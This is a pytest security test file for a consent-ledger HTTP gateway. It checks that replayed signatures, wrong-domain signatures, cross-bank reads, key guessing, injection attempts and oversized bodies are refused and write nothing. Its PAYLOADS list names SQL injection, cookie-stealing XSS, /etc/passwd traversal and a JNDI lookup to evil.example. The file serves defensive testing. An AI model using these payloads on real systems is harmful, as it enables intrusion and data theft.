"""Abuse of the gateway over HTTP: each attempt is refused cleanly and writes nothing.

"Nothing written" is checked on both sides: the gateway's journal and banks, and the chain's
block number (a refused request sends no transaction).
"""

from __future__ import annotations

import secrets
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from eth_account import Account
from eth_account.messages import encode_typed_data
from sqlalchemy import func, select

from consentledger.categories import Category
from consentledger.client import AccessDeniedError
from consentledger.gateway.db import Bank as BankRow
from consentledger.gateway.errors import TooManyFailedAuthenticationsError
from consentledger.gateway.limits import AuthThrottle
from consentledger.gateway.problems import status_of
from consentledger.gateway.settings import DEVELOPMENT_ADMIN_TOKEN
from consentledger.journal.schema import JournalEntry, ReadStatus
from tests.harness.gateway import ADMIN, Bank, Enterprise, Gateway, running_gateway

REGISTRATION = Category.BUSINESS_REGISTRATION.bit


@dataclass(frozen=True)
class Written:
    """What a request could have written: journal rows, banks, blocks."""

    journal: int
    banks: int
    block: int


def written(gateway: Gateway) -> Written:
    with gateway.context.db.session() as session:
        journal = session.scalar(select(func.count()).select_from(JournalEntry)) or 0
        banks = session.scalar(select(func.count()).select_from(BankRow)) or 0
    return Written(journal, banks, int(gateway.context.w3.eth.block_number))


def _problem(response: Any, status: int, code: str | None = None) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"] == "application/problem+json"
    body: dict[str, Any] = response.json()
    assert body["status"] == status
    if code is not None:
        assert body["code"] == code, body
    return body


# --- signatures: replay, another chain, another contract ------------------------------------


def _signed_grant(
    gateway: Gateway, enterprise: Enterprise, bank: Bank, **domain: Any
) -> dict[str, Any]:
    """A drafted consent signed by the enterprise's controller (over ``domain`` changes)."""
    draft = gateway.http.post(
        "/v1/consents/draft",
        json={
            "uscc": enterprise.uscc,
            "bank": bank.address,
            "categories": ["business_registration"],
            "purpose": "credit_underwriting",
            "duration_days": 30,
            "history_months": 12,
        },
        headers=bank.headers,
    )
    assert draft.status_code == 200, draft.text
    document = draft.json()["typed_data"]
    document["domain"].update(domain)
    signable = encode_typed_data(full_message=document)
    signature = bytes(Account.sign_message(signable, enterprise.controller.key).signature)
    return {
        "message": document["message"],
        "signatures": ["0x" + signature.hex()],
        "receipt": draft.json()["receipt"],
    }


def test_the_same_signed_consent_twice_is_granted_once(
    gateway: Gateway, bank: Bank, chip: Enterprise
) -> None:
    body = _signed_grant(gateway, chip, bank)
    first = gateway.http.post("/v1/consents", json=body)
    assert first.status_code == 201, first.text
    before = written(gateway)
    again = gateway.http.post("/v1/consents", json=body)
    assert 400 <= again.status_code < 500, again.text
    assert again.headers["content-type"] == "application/problem+json"
    assert written(gateway) == before


@pytest.mark.parametrize(
    "domain",
    [{"chainId": 1}, {"verifyingContract": "0x" + "11" * 20}],
    ids=["another chain id", "another contract"],
)
def test_a_consent_signed_for_another_domain_is_refused(
    gateway: Gateway, bank: Bank, chip: Enterprise, domain: dict[str, Any]
) -> None:
    body = _signed_grant(gateway, chip, bank, **domain)
    before = written(gateway)
    response = gateway.http.post("/v1/consents", json=body)
    assert 400 <= response.status_code < 500, response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert written(gateway) == before


# --- a bank key with another bank's consent -----------------------------------------------------


def test_another_banks_consent_releases_nothing(
    gateway: Gateway, bank: Bank, other_bank: Bank, chip: Enterprise
) -> None:
    consent = gateway.grant_on_chain(chip, bank, REGISTRATION)
    before = gateway.context.ledger.consent(consent).reads_used
    refused = gateway.refused(other_bank, chip, consent, [1])
    assert isinstance(refused, AccessDeniedError)
    assert (refused.status, refused.reason) == (403, "BANK_MISMATCH")
    assert "data" not in refused.problem
    assert gateway.context.ledger.consent(consent).reads_used == before
    with gateway.context.db.session() as session:
        statuses = set(
            session.scalars(
                select(JournalEntry.status).where(
                    JournalEntry.consent_id == "0x" + consent.hex(),
                    JournalEntry.bank_address == other_bank.address,
                )
            )
        )
    assert statuses == {ReadStatus.DENIED}


# --- guessing API keys and the operator token ---------------------------------------------------


@pytest.fixture(scope="module")
def strict(tmp_path_factory: pytest.TempPathFactory, bureau_url: str) -> Any:
    """A gateway allowing 5 failed authentications a minute per client address."""
    with running_gateway(
        tmp_path_factory.mktemp("strict"), bureau_url, auth_failures_per_minute=5
    ) as running:
        yield running


def _guess() -> dict[str, str]:
    return {"Authorization": f"Bearer clk_{secrets.token_hex(8)}_{secrets.token_urlsafe(32)}"}


def test_guessing_bank_keys_is_throttled_and_never_locks_out_the_bank(strict: Gateway) -> None:
    bank = strict.add_bank()
    query = {"uscc": "x", "consent_id": "0x" + "00" * 32, "categories": [1], "purpose": 1}
    before = written(strict)
    for _ in range(5):
        _problem(
            strict.http.post("/v1/queries", json=query, headers=_guess()), 401, "invalid_api_key"
        )
    refused = strict.http.post("/v1/queries", json=query, headers=_guess())
    body = _problem(refused, 429, "too_many_failed_authentications")
    assert int(refused.headers["retry-after"]) == body["retry_after"] >= 1
    assert written(strict) == before
    # The bank's own key, from the very address that failed, still works.
    unknown = strict.http.get("/v1/queries/0x" + "00" * 32, headers=bank.headers)
    _problem(unknown, 404, "unknown_query")


def test_guessing_the_operator_token_never_locks_out_the_operator(
    tmp_path: Path, bureau_url: str
) -> None:
    with running_gateway(tmp_path, bureau_url, auth_failures_per_minute=3) as gateway:
        before = written(gateway)
        for _ in range(3):
            wrong = {"Authorization": f"Bearer {secrets.token_urlsafe(24)}"}
            _problem(gateway.http.get("/v1/admin/banks", headers=wrong), 401, "invalid_admin_token")
        wrong = {"Authorization": f"Bearer {secrets.token_urlsafe(24)}"}
        response = gateway.http.get("/v1/admin/banks", headers=wrong)
        _problem(response, 429, "too_many_failed_authentications")
        assert "retry-after" in response.headers
        assert written(gateway) == before
        assert gateway.http.get("/v1/admin/banks", headers=ADMIN).status_code == 200


def test_the_throttle_refills_and_is_per_address(monkeypatch: pytest.MonkeyPatch) -> None:
    now = [1000.0]
    monkeypatch.setattr("consentledger.gateway.limits.time.monotonic", lambda: now[0])
    throttle = AuthThrottle(per_minute=2)
    throttle.failed("a")
    throttle.failed("a")
    with pytest.raises(TooManyFailedAuthenticationsError) as refused:
        throttle.check("a")
    assert status_of(refused.value) == 429
    assert refused.value.headers["Retry-After"] == "30"
    throttle.check("b")  # another address has its own bucket
    now[0] += 30
    throttle.check("a")  # one failure refilled after 30 s


def test_successes_cost_nothing(strict: Gateway) -> None:
    admin = {"Authorization": f"Bearer {DEVELOPMENT_ADMIN_TOKEN}"}
    assert admin == ADMIN
    fresh = AuthThrottle(per_minute=5)
    strict.app.state.auth_throttle = fresh
    for _ in range(20):
        assert strict.http.get("/v1/admin/banks", headers=ADMIN).status_code == 200


# --- injection in every string field ------------------------------------------------------------

PAYLOADS = {
    "sql": "' OR '1'='1'; DROP TABLE journal_entries; --",
    "html": "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>",
    "control": "91440300\u0000\u0007\u001b[2J\u202e\u200bABC",
    "long": "9" * 20_000,
    "traversal": "../../../../etc/passwd%00",
    "template": "${jndi:ldap://evil.example/a}{{7*7}}",
    # The showcase USCC in fullwidth forms (NFKC folds them to ASCII), and an emoji.
    "unicode": "".join(chr(ord(c) + 0xFEE0) for c in "91440300MA5DKW7Q1B") + "\U0001f4a3",
}
ZERO32 = "0x" + "00" * 32
ADDRESS = "0x" + "22" * 20


def _q(text: str) -> str:
    return quote(text, safe="")


#: (name, method, path, json body) for a payload ``p``; every string field of every endpoint.
TARGETS: list[tuple[str, str, Callable[[str], str], Callable[[str], Any]]] = [
    *[
        (
            f"query.{field}",
            "POST",
            lambda p: "/v1/queries",
            lambda p, field=field: (
                {
                    "uscc": "91440300MA5DKW7Q1B",
                    "consent_id": ZERO32,
                    "categories": [1],
                    "purpose": 1,
                }
                | ({field: [p]} if field == "categories" else {field: p})
            ),
        )
        for field in ("uscc", "consent_id", "categories", "purpose")
    ],
    ("stored query id", "GET", lambda p: f"/v1/queries/{_q(p)}", lambda p: None),
    ("size-class uscc", "GET", lambda p: f"/v1/enterprises/{_q(p)}/size-class", lambda p: None),
    *[
        (
            f"draft.{field}",
            "POST",
            lambda p: "/v1/consents/draft",
            lambda p, field=field: (
                {
                    "uscc": "91440300MA5DKW7Q1B",
                    "bank": ADDRESS,
                    "categories": [1],
                    "purpose": 1,
                    "duration_days": 30,
                    "history_months": 12,
                }
                | ({field: [p]} if field == "categories" else {field: p})
            ),
        )
        for field in ("uscc", "bank", "categories", "purpose")
    ],
    *[
        (
            f"grant.{field}",
            "POST",
            lambda p: "/v1/consents",
            lambda p, field=field: {
                "message": {"subject": ZERO32, "bank": ADDRESS, "categories": "1"}
                | ({field.split(".")[1]: p} if field.startswith("message.") else {}),
                "signatures": [p] if field == "signatures" else ["0x" + "00" * 65],
                **({"receipt": p} if field == "receipt" else {}),
            },
        )
        for field in ("message.subject", "message.bank", "message.nonce", "signatures", "receipt")
    ],
    ("consent id", "GET", lambda p: f"/v1/consents/{_q(p)}", lambda p: None),
    *[
        (
            f"{action} consent id",
            "POST",
            lambda p, action=action: f"/v1/consents/{_q(p)}/{action}",
            lambda p: {"nonce": "1", "deadline": "1", "signatures": ["0x" + "00" * 65]},
        )
        for action in ("revoke", "pause", "resume")
    ],
    *[
        (
            f"revoke.{field}",
            "POST",
            lambda p: f"/v1/consents/{ZERO32}/revoke",
            lambda p, field=field: (
                {"nonce": "1", "deadline": "1", "signatures": ["0x" + "00" * 65]}
                | ({field: [p]} if field == "signatures" else {field: p})
            ),
        )
        for field in ("nonce", "deadline", "signatures")
    ],
    (
        "action draft",
        "POST",
        lambda p: f"/v1/consents/{ZERO32}/actions/draft",
        lambda p: {"action": p},
    ),
    *[
        (
            f"challenge.{field}",
            "POST",
            lambda p: "/v1/auth/challenge",
            lambda p, field=field: {"uscc": "91440300MA5DKW7Q1B", "address": ADDRESS} | {field: p},
        )
        for field in ("uscc", "address")
    ],
    *[
        (
            f"{view} uscc",
            method,
            lambda p, view=view: f"/v1/enterprises/{_q(p)}/{view}",
            lambda p: None,
        )
        for view, method in (("accesses", "GET"), ("consents", "GET"), ("export", "POST"))
    ],
    (
        "admin enterprise uscc",
        "POST",
        lambda p: "/v1/admin/enterprises",
        lambda p: {"uscc": p, "controllers": [ADDRESS], "threshold": 1},
    ),
    (
        "admin bank address",
        "POST",
        lambda p: "/v1/admin/banks",
        lambda p: {"name": "x", "address": p},
    ),
    ("suspend address", "POST", lambda p: f"/v1/admin/banks/{_q(p)}/suspend", lambda p: None),
    ("reinstate address", "POST", lambda p: f"/v1/admin/banks/{_q(p)}/reinstate", lambda p: None),
]


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
@pytest.mark.parametrize(
    ("method", "path", "body"), [t[1:] for t in TARGETS], ids=[t[0] for t in TARGETS]
)
def test_injection_is_refused_and_writes_nothing(
    gateway: Gateway,
    bank: Bank,
    method: str,
    path: Callable[[str], str],
    body: Callable[[str], Any],
    payload: str,
) -> None:
    headers = {**(ADMIN if "/admin/" in path("") else bank.headers), "Idempotency-Key": "inj"}
    before = written(gateway)
    response = gateway.http.request(method, path(payload), json=body(payload), headers=headers)
    assert 400 <= response.status_code < 500, response.text
    assert response.headers["content-type"] == "application/problem+json", response.text
    assert written(gateway) == before


# --- bodies: too large, too deep ----------------------------------------------------------------


def test_a_10_mb_body_is_413_and_writes_nothing(gateway: Gateway, bank: Bank) -> None:
    before = written(gateway)
    big = b'{"uscc": "' + b"9" * (10 * 1024 * 1024) + b'"}'
    response = gateway.http.post(
        "/v1/queries",
        content=big,
        headers={**bank.headers, "Content-Type": "application/json", "Idempotency-Key": "big"},
    )
    _problem(response, 413, "body_too_large")
    assert written(gateway) == before


def test_a_10_mb_body_without_a_length_is_413(gateway: Gateway, bank: Bank) -> None:
    def chunks() -> Iterator[bytes]:
        yield b'{"uscc": "'
        for _ in range(10):
            yield b"9" * (1024 * 1024)
        yield b'"}'

    before = written(gateway)
    response = gateway.http.post(
        "/v1/consents/draft", content=chunks(), headers={"Content-Type": "application/json"}
    )
    _problem(response, 413, "body_too_large")
    assert written(gateway) == before


@pytest.mark.parametrize("depth", [33, 1_000, 100_000])
def test_deeply_nested_json_is_400_and_writes_nothing(
    gateway: Gateway, bank: Bank, depth: int
) -> None:
    before = written(gateway)
    nested = b"[" * depth + b"]" * depth
    for path, headers in (
        ("/v1/queries", {**bank.headers, "Idempotency-Key": "deep"}),
        ("/v1/consents", {}),
        ("/v1/admin/banks", ADMIN),
    ):
        response = gateway.http.post(
            path, content=nested, headers={**headers, "Content-Type": "application/json"}
        )
        if len(nested) > 64 * 1024:
            _problem(response, 413, "body_too_large")
        else:
            _problem(response, 400, "body_too_deep")
    assert written(gateway) == before
